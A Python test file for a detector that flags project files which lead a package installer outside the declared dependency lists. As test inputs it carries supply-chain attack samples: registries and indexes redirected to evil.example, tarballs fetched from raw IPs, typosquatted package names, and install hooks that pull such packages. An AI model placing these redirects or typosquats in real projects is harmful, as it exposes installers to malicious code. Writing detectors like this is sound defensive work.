"""Ways in which a project's files could lead an installer past what the lists of packages say: each is seen."""

from __future__ import annotations

import json

import pytest

from builder.safety.packages.sources import is_index
from builder.safety.packages.wanted import wanted_packages
from preview_runtime.file_tree import FileTree


def found(files: dict[str, str]) -> set[tuple[str, bool]]:
    """(name, whether it comes from elsewhere)"""
    return {(one.name, bool(one.elsewhere)) for one in wanted_packages(FileTree(files))}


def manifest(**fields: object) -> str:
    return json.dumps({"name": "shop", **fields})


@pytest.mark.parametrize(
    "asked",
    [
        "https://198.51.100.7/x.tgz", "http://registry.npmjs.org/lodahs/-/lodahs-1.0.0.tgz", "git+ssh://git@host/x.git",
        "git://host/x", "github:who/what", "who/what", "who/what#main", "gist:1234", "bitbucket:a/b", "gitlab:a/b",
        "git@host.example:a/b.git", "jsr:@a/b@1", "HTTPS://host/x.tgz",
    ],
)  # fmt: skip
def test_an_address_in_the_place_of_a_version(asked: str) -> None:
    assert found({"package.json": manifest(dependencies={"lodash": asked})}) == {("lodash", True)}
    assert ("lodash", True) in found({"package.json": manifest(overrides={"react": {"lodash": asked}})})
    assert ("lodash", True) in found({"package.json": manifest(resolutions={"lodash": asked})})


def test_names_that_stand_elsewhere_in_the_project_are_looked_at_all_the_same() -> None:
    files = {
        "package.json": manifest(
            dependencies={"lodahs": "catalog:", "expres": "workspace:*", "own": "workspace:*", "here": "file:./here"},
            workspaces={"packages": ["own"], "catalog": {"lodash": "npm:lodahs-es@1"}},
            pnpm={"overrides": {"x": "npm:reacct@1"}},
        ),
        "own/package.json": json.dumps({"name": "own"}),
    }
    assert {name for name, _ in found(files)} == {"lodahs", "expres", "lodahs-es", "reacct"}


@pytest.mark.parametrize("hook", ["preinstall", "install", "postinstall", "prepare"])
def test_a_projects_own_script_around_an_install(hook: str) -> None:
    assert found({"package.json": manifest(scripts={hook: "npm i lodahs && npx expres"})}) == {
        ("lodahs", False), ("expres", False),
    }  # fmt: skip


@pytest.mark.parametrize(
    ("line", "name"),
    [
        ("flask @ https://198.51.100.7/flask.whl", "flask"),
        ("Flask[async]@git+https://host/flask", "flask"),
        ("git+https://host/x#egg=flask", "git+https://host/x#egg=flask"),
        ("-e git+https://host/x#egg=flask", "git+https://host/x#egg=flask"),
        ("https://me:secret@host/x.whl", "https://host/x.whl"),
        ("--index-url http://198.51.100.7/simple", "198.51.100.7"),
        ("--extra-index-url=https://evil.example/simple", "evil.example"),
        ("-i https://evil.example/simple", "evil.example"),
        ("-f https://evil.example/wheels", "evil.example"),
        ("--find-links https://evil.example/wheels", "evil.example"),
    ],
)
def test_a_line_of_requirements_that_leads_elsewhere(line: str, name: str) -> None:
    assert found({"requirements.txt": f"{line}\n"}) == {(name, True)}


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (".npmrc", "registry=https://evil.example/\n//evil.example/:_authToken=x\n"),
        ("server/.npmrc", "@acme:registry = https://evil.example\n"),
        ("bunfig.toml", '[install]\nregistry = "https://evil.example"\n'),
        ("bunfig.toml", '[install.scopes]\nacme = { url = "https://evil.example", token = "x" }\n'),
        ("pip.conf", "[global]\nindex-url = https://evil.example/simple\n"),
        ("pip.conf", "[install]\nextra-index-url =\n  https://evil.example/simple\n"),
        ("uv.toml", 'index-url = "https://evil.example/simple"\n'),
        ("uv.toml", '[[index]]\nname = "x"\nurl = "https://evil.example/simple"\n'),
        ("uv.toml", '[pip]\nextra-index-url = ["https://evil.example/simple"]\n'),
        ("pyproject.toml", '[tool.uv]\nfind-links = ["https://evil.example/simple"]\n'),
        ("sayso.json", '{"run": {"install": "pip install --index-url https://evil.example/simple"}}'),
        ("sayso.json", '{"run": {"install": "PIP_INDEX_URL=https://evil.example/simple pip install"}}'),
        ("sayso.json", '{"run": {"install": "npm install --registry=https://evil.example"}}'),
    ],
)
def test_settings_that_name_another_registry(path: str, text: str) -> None:
    assert found({path: text}) == {("evil.example", True)}
    assert [is_index(one) for one in wanted_packages(FileTree({path: text}))] == ["evil.example"]


def test_a_source_of_uv_is_an_address() -> None:
    text = '[project]\ndependencies = ["flask"]\n[tool.uv.sources]\nflask = { git = "https://host/flask" }\n'
    assert found({"pyproject.toml": text}) == {("flask", False), ("flask", True)}


def npm_lock(**packages: dict[str, object]) -> dict[str, str]:
    root = {"name": "shop", "dependencies": {"lodash": "^4"}}
    entries = {"": root, **{f"node_modules/{name}": entry for name, entry in packages.items()}}
    return {
        "package.json": manifest(dependencies={"lodash": "^4"}),
        "package-lock.json": json.dumps({"lockfileVersion": 3, "packages": entries}),
    }


TARBALL = "https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz"


@pytest.mark.parametrize(
    ("entry", "other"),
    [
        ({"version": "4.17.21", "resolved": TARBALL}, ("registry.npmjs.org", True)),
        ({"version": "4.17.21", "resolved": "https://evil.example/lodash/-/lodash-4.17.21.tgz"}, ("evil.example", True)),
        ({"version": "4.17.21", "resolved": "https://registry.npmjs.org/lodahs/-/lodahs-4.17.21.tgz"}, ("lodash", True)),
        ({"version": "4.17.21", "resolved": "https://registry.npmjs.org/lodash/-/lodash-4.17.20.tgz"}, ("lodash", True)),
        ({"version": "4.17.21", "resolved": "git+ssh://git@host/x.git#1"}, ("lodash", True)),
        ({"version": "4.17.21", "name": "lodahs"}, ("lodahs", False)),
    ],
)  # fmt: skip
def test_an_entry_of_npms_lock_is_what_its_name_says(entry: dict[str, object], other: tuple[str, bool]) -> None:
    assert other in found(npm_lock(lodash=entry))


def test_a_lock_brings_names_that_no_list_asks_for() -> None:
    lock = npm_lock(lodash={"version": "4.17.21", "dependencies": {"lodahs": "1"}}, lodahs={"version": "1.0.0"})
    ways = {one.name: one.way for one in wanted_packages(FileTree(lock)) if one.path == "package-lock.json"}
    assert ways == {"lodash": (), "lodahs": ("lodash",)}
    python = {
        "requirements.txt": "flask\n",
        "requirements.lock": "flask==3.1 --hash=sha256:0\nreqeusts==1 --hash=sha256:0\n",
    }
    assert ("reqeusts", False) in found(python)


@pytest.mark.parametrize(
    ("path", "text", "expected"),
    [
        ("bun.lock", '{"workspaces": {"": {}}, "packages": {\n    "a": ["b@1.0.0", "", {}, "sha"],\n}}', {("b", False)}),
        ("bun.lock", '{"workspaces": {"": {}}, "packages": {\n    "a": ["a@1.0.0", "https://evil.example/x.tgz", {}, "s"],\n}}', {("a", False), ("a", True)}),
        ("bun.lock", '{"workspaces": {"": {}}, "packages": {\n    "a": ["a@https://evil.example/x.tgz", {}],\n}}', {("a", False), ("a", True)}),
        ("bun.lock", '{"workspaces":{"":{}},"packages":{"a":["a@1.0.0","https://evil.example/x.tgz",{},"s"]}}', {("a", False), ("a", True)}),
        ("bun.lock", '{"workspaces": {"": {}}, "packages": {}} // "packages": {"a": ["b@1.0.0", "", {}, ""]}', {("bun.lock", True)}),
        ("package-lock.json", '{"packages": {"node_modules/a": {"version": "1.0.0"}}, "packages": {}}', {("package-lock.json", True)}),
        ("bun.lock", "something that only bun reads", {("bun.lock", True)}),
        ("bun.lockb", "binary", {("bun.lockb", True)}),
        ("pnpm-lock.yaml", "packages:\n\n  lodahs@1.0.0:\n    resolution: {integrity: sha512-x}\n", {("lodahs", False)}),
        ("pnpm-lock.yaml", "packages:\n\n  /@a/b@1.0.0:\n    resolution: {tarball: https://evil.example/x.tgz}\n", {("@a/b", False), ("@a/b", True)}),
        ("yarn.lock", 'lodash@^4:\n  version "4.1.0"\n  resolved "https://evil.example/lodash/-/lodash-4.1.0.tgz#x"\n', {("lodash", False), ("evil.example", True)}),
        ("yarn.lock", '"lodash@npm:lodahs@1":\n  version "1.0.0"\n  resolved "https://registry.yarnpkg.com/lodahs/-/lodahs-1.0.0.tgz#x"\n', {("lodahs", False), ("registry.yarnpkg.com", True)}),
        ("uv.lock", '[[package]]\nname = "flask"\nversion = "3"\nsource = { git = "https://host/x" }\n', {("flask", True)}),
        ("uv.lock", '[[package]]\nname = "reqeusts"\nversion = "3"\nsource = { registry = "https://evil.example/simple" }\n', {("reqeusts", False), ("evil.example", True)}),
    ],
)  # fmt: skip
def test_other_locks(path: str, text: str, expected: set[tuple[str, bool]]) -> None:
    assert found({path: text}) == expected


@pytest.mark.parametrize(
    "text", ["", "{", "[]", "null", '{"packages": 3}', '{"packages": {"node_modules/a": 1}}', "[" * 9999]
)
@pytest.mark.parametrize(
    "path",
    [
        "package-lock.json",
        "yarn.lock",
        "pnpm-lock.yaml",
        "uv.lock",
        "requirements.lock",
        ".npmrc",
        "bunfig.toml",
        "pip.conf",
        "uv.toml",
    ],
)
def test_a_broken_one_raises_nothing(path: str, text: str) -> None:
    found({path: text})


def test_honest_files_lead_nowhere_else() -> None:
    files = {
        ".npmrc": "save-exact=true\n",
        "bunfig.toml": "[install]\nexact = true\n",
        "pip.conf": "[global]\ntimeout = 3\n",
        "requirements.txt": "flask\n-r more.txt\n--no-binary x\n--prefer-binary\n./here\n-e .\n",
        "package.json": manifest(dependencies={"a": ">= 1.2 <2 || ^3", "b": "next", "c": "npm:d@^1"}, scripts={"prepare": "husky"}),
    }  # fmt: skip
    assert {name for name, elsewhere in found(files) if elsewhere} == set()
